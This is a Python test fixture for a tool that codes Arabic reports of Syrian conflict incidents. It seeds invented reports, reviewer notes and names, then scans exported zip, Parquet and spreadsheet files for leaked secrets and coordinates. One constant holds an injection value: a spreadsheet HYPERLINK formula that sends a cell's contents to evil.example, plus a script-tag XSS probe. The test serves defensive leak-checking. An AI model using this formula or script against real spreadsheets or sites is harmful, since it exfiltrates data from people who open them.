"""A project full of what must not leave, all of it invented: what the attacks are tried on."""

from __future__ import annotations

import io
import json
import re
import struct
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from rasid.project.project import Project
from rasid.project.redacting import redact_name
from rasid.publish.material import happenings

REVIEWER, NOTE = "samar.of.the.archive", "NOTE-4471: the witness is the cousin of the nurse"
HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1;"قناة الوادي")<script>alert(1)</script>'
# (id, published, outlet, text)
REPORTS: list[tuple[str, str | None, str, str]] = [
    (
        "seen",
        "2024-03-09T10:15:37+03:00",
        "شبكة الشمال",
        "قصفت مدفعية الجيش السوري يوم الجمعة منزل الشاهد سليم الحوراني في بلدة كنصفرة بريف إدلب، ما أدى إلى مقتل ثلاثة مدنيين.",
    ),
    (
        "open",
        "2024-03-10T08:00:00+03:00",
        "منصة الغدير",
        "قصفت مدفعية الجيش السوري يوم الجمعة بلدة كنصفرة بريف إدلب، ما أدى إلى مقتل 77 مدنيا بينهم الطفلة ريم الخالدي وإصابة آخرين.",
    ),
    ("young", "2098-11-21", "مرقب الجبل", "شن الطيران الحربي يوم الخميس غارتين على بلدة حاس، ما أدى إلى مقتل 81 مدنيا."),
    ("unseen", "2024-05-11", "مرقب النهر", "اعتقلت قوات سوريا الديمقراطية يوم الجمعة 83 شابا في مدينة منبج."),
    ("refused", "2024-06-15", "مرقب السهل", "فجر مسلحون يوم الجمعة سيارة مفخخة في مدينة الباب، ما أدى إلى مقتل 87 شخصا."),
    ("covered", "2024-07-13", "شبكة الشمال", "اختطف مسلحون يوم الجمعة الناشط زهير المرعي في مدينة السويداء."),
    ("few", "2024-08-10", "شبكة الشمال", "اعتقلت قوات الأمن يوم الجمعة 9 مدنيين بينهم 4 أطفال في بلدة نوى بريف درعا."),
    ("fled", "2024-09-14", "شبكة الشمال", "نزحت يوم الجمعة 40 عائلة من بلدة معرشمارين إلى مخيم أطمة."),
    ("hostile", "2024-10-12", HOSTILE, "قتل خمسة مدنيين يوم الجمعة في قصف مدفعي للجيش السوري على مدينة سراقب."),
    ("undated", None, "مرقب الوادي", "قتل 89 مدنيا في قصف مدفعي للجيش السوري على بلدة بنش."),
]
ACCEPTED = ("seen", "young", "covered", "few", "fled", "hostile", "undated")
# What no byte of a public export may hold: notes and reviewers, names, words and outlets of what stays, exact places and points.
SECRETS = [
    *(REVIEWER, "NOTE-4471", "cousin"),
    *("سليم الحوراني", "الحوراني", "ريم الخالدي", "زهير", "المرعي"),
    *("منصة الغدير", "مرقب الجبل", "مرقب النهر", "مرقب السهل", "مرقب الوادي"),
    *(
        "كنصفرة",
        "Kansafra",
        "حاس،",
        "منبج",
        "Manbij",
        "معرشمارين",
        "Maar Shamarin",
        "أطمة",
        "Atmeh",
        "سراقب",
        "Saraqib",
        "Binnish",
        "Al-Bab",
    ),
    *("ما أدى إلى", "عنوان سري", "n.example", "10:15:37", "evil.example"),
]
NUMBERS = ("77", "81", "83", "87", "89")  # figures of accounts that stay; no other figure here is one of them
POINTS = ("35.66", "35.64", "35.62", "36.31", "35.86447", "36.80591", "36.52815", "37.95495", "32.88646", "36.03905", "35.95664")


def seeded(project: Project, folder: Path) -> Project:
    for id_, published, outlet, text in REPORTS:
        add(project, folder, id_, published, outlet, text)
    for id_ in ACCEPTED:
        for event in events_of(project, id_):
            project.accept(event, REVIEWER, NOTE)
    for event in events_of(project, "refused"):
        project.reject(event, REVIEWER, NOTE)
    with project.store.writing(REVIEWER) as change:
        redact_name(change, project.coder, "زهير المرعي", NOTE)
    project.store.layer.mkdir(exist_ok=True)
    (project.store.layer / "names.txt").write_text("سليم الحوراني\n", encoding="utf-8")
    return project


def add(project: Project, folder: Path, id_: str, published: str | None, outlet: str, text: str) -> None:
    told = {"id": f"report-{id_}", "text": text, "outlet": outlet, "title": "عنوان سري", "url": f"https://n.example/{id_}"}
    lines = folder / f"{id_}.jsonl"
    lines.write_text(json.dumps(told | ({"published": published} if published else {}), ensure_ascii=False) + "\n", encoding="utf-8")
    list(project.add([lines]))


def events_of(project: Project, id_: str) -> list[str]:
    with project.store.reading() as connection:
        return [t.event.id for h in happenings(connection) for t in h.told if t.read.id == f"report-{id_}"]


def ids_of(project: Project) -> set[str]:
    """Every id that the project itself uses: none of them may leave."""
    with project.store.reading() as connection:
        found = list(happenings(connection))
    events = {t.event.id for h in found for t in h.told}
    return {h.incident.id for h in found} | events | {f"report-{name}" for name, *_ in REPORTS}


def texts(data: bytes) -> Iterator[str]:
    """All that can be read in a file: its text, or what it holds packed, member by member, number by number."""
    if data[:4] == b"PK\x03\x04":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for name in archive.namelist():
                yield name
                yield from texts(archive.read(name))
    elif data[:4] == b"PAR1":
        yield parquet(data)
    else:
        yield data.decode("utf-8")


def parquet(data: bytes) -> str:
    """A Parquet file's rows and what stands about them, with the coordinates of its geometries."""
    import duckdb

    with tempfile.TemporaryDirectory() as folder, duckdb.connect() as connection:
        path = Path(folder) / "read.parquet"
        path.write_bytes(data)
        rows = connection.execute("SELECT * FROM read_parquet(?)", [str(path)]).fetchall()
        about = connection.execute("SELECT key, value FROM parquet_kv_metadata(?)", [str(path)]).fetchall()
    about = [(k.decode(), v.decode()) for k, v in about]
    return json.dumps([about, [[readable(v) for v in row] for row in rows]], ensure_ascii=False)


def readable(value: Any) -> Any:
    if isinstance(value, bytes):  # a point in WKB: byte order, type, longitude, latitude
        return list(struct.unpack("<dd", value[5:21])) if len(value) == 21 else value.hex()
    return value if isinstance(value, int | float | str | list | None) else str(value)


def figures(text: str) -> set[str]:
    """The whole numbers of a file; of a sheet of a workbook those in its cells."""
    if text.startswith("<?xml"):
        cells = re.findall(r"<c ([^>]*)>(?:<v>([^<]*)</v>|<is>(.*?)</is>)", text)
        text = " ".join(v + " " + s for kind, v, s in cells if 't="s"' not in kind) + " ".join(re.findall(r"<t[^>]*>([^<]*)", text))
    return set(re.findall(r"(?<![\w.:_-])\d+(?![\w.:-])", text))


def leaks(data: bytes, ids: set[str]) -> list[str]:
    """The secrets that a file holds, as it is written and as JSON and HTML write it."""
    found = []
    for text in texts(data):
        plain = text.replace("\\/", "/")
        numbers = {round(float(n), 3) for n in re.findall(r"(?<![\w.])-?\d+\.\d+(?![\w.]*\w)", plain)}
        found += [s for s in (*SECRETS, *sorted(ids)) if s in plain]
        found += [point for point in POINTS if round(float(point), 3) in numbers]  # however many decimals a format writes
    return found
